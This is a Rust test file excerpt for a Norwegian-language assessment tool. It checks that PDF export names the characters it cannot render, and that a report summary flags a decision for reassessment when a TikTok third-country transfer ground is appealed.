#[test]
fn a_pdf_export_says_which_signs_it_cannot_draw() -> TestResult {
    let mut o = workshop();
    o.title = "Skolens Instagram 📷 中国".into();
    let exported =
        outcome::export::export(&o, &common::library(), outcome::export::Kind::Pdf, None)?;
    let remark = exported.remark.unwrap_or_default();
    assert!(remark.contains("📷") && remark.contains('中'), "{remark}");
    let plain = outcome::export::export(
        &workshop(),
        &common::library(),
        outcome::export::Kind::Pdf,
        None,
    )?;
    assert_eq!(plain.remark, None);
    Ok(())
}

/// Issue 25: the report's summary says when the decision is to be assessed
/// again on the document's date, and why; with the ground holding it says
/// nothing of it.
#[test]
fn the_summary_says_a_decision_is_to_be_assessed_again_and_why() -> TestResult {
    let mut library = common::library();
    let o = common::rich_decided(&library);
    let day = Some("2026-12-07".parse()?);
    let text = outcome::export::render(&outcome::report::build_on(&o, &library, day));
    assert!(!text.contains("Til ny vurdering"), "the ground holds");
    common::appeal_tiktok_transfers(&mut library);
    let text = outcome::export::render(&outcome::report::build_on(&o, &library, day));
    let at = |s: &str| text.find(s).unwrap_or(usize::MAX);
    assert!(at("## Tiltaksplan") < usize::MAX, "{text}");
    assert!(
        at("Til ny vurdering:") > at("## Sammendrag")
            && at("Til ny vurdering:") < at("## Tiltaksplan"),
        "{text}"
    );
    assert!(
        text.contains("TikTok: Overføring til tredjeland er endret (status gjeldende → anket)"),
        "{text}"
    );
    Ok(())
}
